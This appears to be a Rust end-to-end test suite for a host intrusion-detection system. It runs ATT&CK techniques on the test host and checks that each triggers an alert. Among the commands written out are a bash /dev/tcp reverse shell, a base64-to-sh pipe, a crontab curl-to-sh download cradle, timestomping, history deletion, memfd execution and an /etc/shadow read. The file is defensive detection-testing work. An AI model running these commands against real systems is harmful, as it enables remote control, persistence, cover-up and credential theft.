//! ATT&CK techniques performed for real on this host; each must raise an alert with the right
//! technique id whose evidence points at what was done. The time from the technique to the
//! alert being visible in the API is printed (the target is 2 s; `cargo bench --bench
//! alert_latency -p vigil-server` measures p50/p99 under load).

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use crate::harness::{now_ms, serial, sh, stack};

fn start() -> (i64, Instant) {
    (now_ms(), Instant::now())
}

#[test]
fn a_reverse_shell_to_a_loopback_listener() {
    let _g = serial();
    let Some(s) = stack() else { return };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut c, _) = listener.accept().unwrap();
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        c.write_all(b"id\nexit\n").unwrap();
        let mut out = Vec::new();
        let _ = c.read_to_end(&mut out);
        String::from_utf8_lossy(&out).into_owned()
    });
    let t = start();
    sh(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null"
    ));
    let got = server.join().unwrap();
    assert!(
        got.contains("uid="),
        "the shell answered over the socket: {got:?}"
    );
    s.expect_alert(
        "reverse shell",
        t,
        "T1059.004",
        &format!("/dev/tcp/127.0.0.1/{port}"),
    );
}

#[test]
fn a_base64_decoded_script_piped_to_a_shell() {
    let _g = serial();
    let Some(s) = stack() else { return };
    let dir = s.scratch("b64");
    let marker = dir.join("decoded-ran");
    let script = format!("touch {}", marker.display());
    let encoded = sh(&format!("printf '%s' '{script}' | base64 -w0"));
    let t = start();
    sh(&format!("echo {encoded} | base64 -d | sh"));
    assert!(marker.exists(), "the decoded script ran");
    s.expect_alert("decoded payload", t, "T1140", &encoded);
}

#[test]
fn crontab_persistence_with_a_download_cradle() {
    let _g = serial();
    let Some(s) = stack() else { return };
    // The `nobody` account's crontab, so that the host's own (root's) is untouched.
    let url = format!("http://127.0.0.1:9/e2e-{}.sh", std::process::id());
    let t = start();
    sh(&format!(
        "(crontab -u nobody -l 2>/dev/null; echo '*/5 * * * * curl -s {url} | sh') | crontab -u nobody -"
    ));
    let installed = sh("crontab -u nobody -l");
    let res = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        s.expect_alert("crontab", t, "T1053.003", &url)
    }));
    sh("crontab -u nobody -r");
    assert!(
        installed.contains(&url),
        "the entry was installed: {installed}"
    );
    if let Err(p) = res {
        std::panic::resume_unwind(p);
    }
}

#[test]
fn timestomping_a_file() {
    let _g = serial();
    let Some(s) = stack() else { return };
    let dir = s.scratch("timestomp");
    let file = dir.join("implant");
    std::fs::write(&file, b"x").unwrap();
    let t = start();
    sh(&format!("touch -r /etc/hostname {}", file.display()));
    s.expect_alert("timestomp", t, "T1070.006", &file.display().to_string());
}

#[test]
fn clearing_shell_history() {
    let _g = serial();
    let Some(s) = stack() else { return };
    let home = s.scratch("home");
    let history = home.join(".bash_history");
    std::fs::write(&history, b"ssh root@10.0.0.9\n").unwrap();
    let t = start();
    sh(&format!("rm -f {}", history.display()));
    s.expect_alert(
        "history clearing",
        t,
        "T1070.003",
        &history.display().to_string(),
    );
}

#[test]
fn executing_a_program_from_a_memory_file_descriptor() {
    let _g = serial();
    let Some(s) = stack() else { return };
    let name = std::ffi::CString::new("vigil-e2e-memfd").unwrap();
    // SAFETY: memfd_create with a valid C string; the fd is ours (no CLOEXEC: the child
    // inherits it and execs it by its /proc path).
    let fd = unsafe { libc::memfd_create(name.as_ptr(), 0) };
    assert!(fd >= 0, "memfd_create: {}", std::io::Error::last_os_error());
    let image = std::fs::read("/bin/true").unwrap();
    // SAFETY: writing our buffer to our fd.
    let n = unsafe { libc::write(fd, image.as_ptr().cast(), image.len()) };
    assert_eq!(n, image.len() as isize);
    let t = start();
    let st = std::process::Command::new(format!("/proc/self/fd/{fd}"))
        .status()
        .unwrap();
    // SAFETY: closing our own fd.
    unsafe { libc::close(fd) };
    assert!(st.success(), "the memfd program ran: {st}");
    s.expect_alert("memfd exec", t, "T1620", "vigil-e2e-memfd");
}

#[test]
fn reading_etc_shadow_from_an_unexpected_process() {
    let _g = serial();
    let Some(s) = stack() else { return };
    let t = start();
    // This test binary is not a program that has any business reading password hashes.
    let text = std::fs::read_to_string("/etc/shadow").unwrap();
    assert!(text.contains("root:"));
    let me = std::env::current_exe().unwrap();
    let name = me.file_name().unwrap().to_string_lossy().into_owned();
    s.expect_alert("shadow read", t, "T1003.008", &name);
}
